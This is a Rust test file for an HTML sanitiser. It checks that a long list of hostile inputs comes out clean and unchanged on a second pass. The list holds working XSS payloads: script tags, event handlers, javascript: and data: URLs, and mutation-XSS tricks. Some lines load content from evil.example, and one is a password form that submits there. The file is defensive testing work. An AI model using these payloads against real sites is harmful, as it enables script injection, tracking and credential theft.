//! What people try. Each is sanitised, and the result is looked at as a browser would read it.

use super::super::{keep, to_text};
use super::sanitise;

/// Hostile HTML, one a line of the list.
const HOSTILE: &[&str] = &[
    // Scripts, however they are written.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=\"data:,alert(1)\"></script>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    // Handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=\"cid:7\" onload=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<div onclick=\"alert(1)\" onfocus=alert(1) tabindex=1 autofocus>x</div>",
    "<body onload=alert(1)>",
    "<a href=https://example.org onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    // Addresses that run or hide something.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"//evil.example/\">x</a>",
    "<a href=\"/sign-out\">x</a>",
    "<a href=\"cid:7\">x</a>",
    "<a href=\"https://example.org\" target=_blank rel=opener ping=https://evil.example>x</a>",
    // Pictures from elsewhere.
    "<img src=\"https://evil.example/pixel.gif\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    "<img src=\"cid:7\" srcset=\"https://evil.example/x 2x\">",
    "<img src=\"cid:abc\">",
    "<img src=\"cid:7/../../sign-out\">",
    "<img dynsrc=https://evil.example lowsrc=https://evil.example>",
    "<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>",
    "<input type=image src=https://evil.example/x>",
    "<table background=https://evil.example/x><td background=https://evil.example/x>x</td></table>",
    // Styles.
    "<style>@import url(https://evil.example/x.css);</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div style=\"position:fixed;inset:0\" class=\"alert btn\" id=main>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<font color=red face=\"x\">x</font>",
    // Other documents, forms, bases.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>Sign in</button></form>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<dialog open>x</dialog>",
    // Foreign content and shapes that mean something else when they are read a second time.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<table><td><svg><desc><td><style><img src=x onerror=alert(1)></style></desc></svg></td></table>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<img alt=\"`><script>alert(1)</script>\" src=\"cid:7\">",
    "<img alt=\"&quot;><img src=x onerror=alert(1)>\" src=\"cid:7\">",
    "<a href='https://example.org/\"onmouseover=\"alert(1)'>x</a>",
    "<span data-mention=\"7&quot; onmouseover=&quot;alert(1)\">x</span>",
    // Encodings in encodings stay words.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=\"cid:7\" width=\"100%\" height=\"1e9\">",
    "<td colspan=\"999999999\">x</td>",
    "<b\u{0} onclick=alert(1)>x</b>",
];

/// What a tag may look like in the end; everything else is a fault.
fn fault(html: &str) -> Option<String> {
    let mut rest = html;
    while let Some((text, after)) = rest.split_once('<') {
        if text.contains('>') {
            return Some(format!("a loose > in {text:?}"));
        }
        let (tag, next) = whole_tag(after)?;
        let tag = tag.trim_start_matches('/');
        let name = tag.split(' ').next().unwrap_or_default();
        if !super::ELEMENTS.contains(&name) {
            return Some(format!("the element {name:?}"));
        }
        for (attribute, value) in attributes(tag) {
            let is_known = match (name, attribute) {
                ("a", "href") => ["http://", "https://", "mailto:"].iter().any(|start| value.starts_with(start)),
                ("a", "rel") => value == "noopener nofollow",
                ("img", "src") => value.strip_prefix("cid:").is_some_and(is_digits),
                ("img", "alt") => true,
                ("img", "width" | "height") | ("td" | "th", "colspan" | "rowspan") => {
                    is_digits(value) && value.len() <= 5
                }
                ("span", "data-mention") => is_digits(value),
                _ => false,
            };
            if !is_known {
                return Some(format!("{attribute}={value:?} on {name}"));
            }
        }
        rest = next;
    }
    rest.contains('>').then(|| format!("a loose > in {rest:?}"))
}

fn is_digits(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit())
}

/// What stands in a tag, and what comes after it.
fn whole_tag(after: &str) -> Option<(&str, &str)> {
    let mut is_quoted = false;
    let end = after.find(|letter| {
        is_quoted ^= letter == '"';
        letter == '>' && !is_quoted
    })?;
    Some((&after[..end], &after[end + 1..]))
}

fn attributes(tag: &str) -> Vec<(&str, &str)> {
    let mut rest = tag.split_once(' ').map_or("", |(_, rest)| rest);
    let mut found = Vec::new();
    while !rest.trim().is_empty() {
        let (name, after) = rest.split_once("=\"").unwrap_or((rest, "\""));
        let (value, next) = after.split_once('"').unwrap_or((after, ""));
        found.push((name.trim(), value));
        rest = next;
    }
    found
}

#[test]
fn nothing_hostile_gets_through_and_nothing_changes_when_it_is_read_again() {
    assert!(HOSTILE.len() >= 40);
    for hostile in HOSTILE {
        for shape in [(*hostile).to_owned(), format!("<div>{hostile}</div>"), format!("<table><tr><td>{hostile}")] {
            let clean = sanitise(&shape);
            assert_eq!(fault(&clean), None, "{shape}\nbecame {clean}");
            assert_eq!(sanitise(&clean), clean, "{shape} is another thing when it is read again");
        }
    }
}

#[test]
fn what_tells_a_fault_would_tell_it() {
    for html in [
        "<script>",
        "<b onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<img src=\"https://x\">",
        "<b style=\"x\">",
        "a>b",
    ] {
        assert!(fault(html).is_some(), "{html}");
    }
    assert_eq!(fault("<a href=\"https://example.org/?a>b\" rel=\"noopener nofollow\">x</a>"), None);
}

#[test]
fn words_survive_and_what_is_no_text_does_not() {
    assert_eq!(to_text(&sanitise("a<script>b</script><style>c</style><svg><text>d</text></svg>e")), "ae");
    assert_eq!(to_text(&sanitise("&lt;script&gt;alert(1)&lt;/script&gt;")), "<script>alert(1)</script>");
    assert_eq!(to_text(&sanitise("<form><h1>Title</h1><button>Press</button></form>")), "TitlePress");
}

#[test]
fn what_the_editor_writes_stays_as_it_is() {
    for html in [
        "<div>One <b>bold</b> <i>slanted</i> <u>u</u> <s>s</s> <code>x &lt; y</code><br></div>",
        "<ul><li><div>one</div></li></ul><ol><li>two</li></ol><blockquote><div>you said</div></blockquote>",
        "<pre>if a:\n    b</pre>",
        "<table><thead><tr><th colspan=\"2\">h</th></tr></thead><tbody><tr><td>a</td><td>b</td></tr></tbody></table>",
        "<div><img src=\"cid:123\" alt=\"tela.png\" width=\"800\" height=\"600\"></div>",
        "<div><span data-mention=\"5\">@Ana Prado</span> look</div>",
        "<a href=\"https://example.org/a?b=1&amp;c=2\" rel=\"noopener nofollow\">here</a>",
    ] {
        assert_eq!(sanitise(html), html);
    }
}

#[test]
fn pictures_and_mentions_that_are_not_allowed_go_and_the_words_stay() {
    let html = sanitise(
        "<div><img src=\"cid:1\"><img src=\"cid:2\"> <span data-mention=\"3\">@Ana</span> <span data-mention=\"4\">@Bo</span></div>",
    );
    let kept = keep(&html, |image| image == 2, |person| person == 3);
    assert_eq!(kept, "<div><img src=\"cid:2\"> <span data-mention=\"3\">@Ana</span> @Bo</div>");
    assert_eq!((super::super::images(&kept), super::super::mentions(&kept)), (vec![2], vec![3]));
}

#[test]
fn what_is_nested_without_end_costs_nothing() {
    let deep = |depth| format!("{}x{}", "<div>".repeat(depth), "</div>".repeat(depth));
    assert_eq!(to_text(&sanitise(&deep(200))), "x");
    assert_eq!(sanitise(&deep(100_000)), "");
    assert_eq!(to_text(&sanitise(&"<div>a<br></div>".repeat(5_000))).lines().count(), 5_000);
}
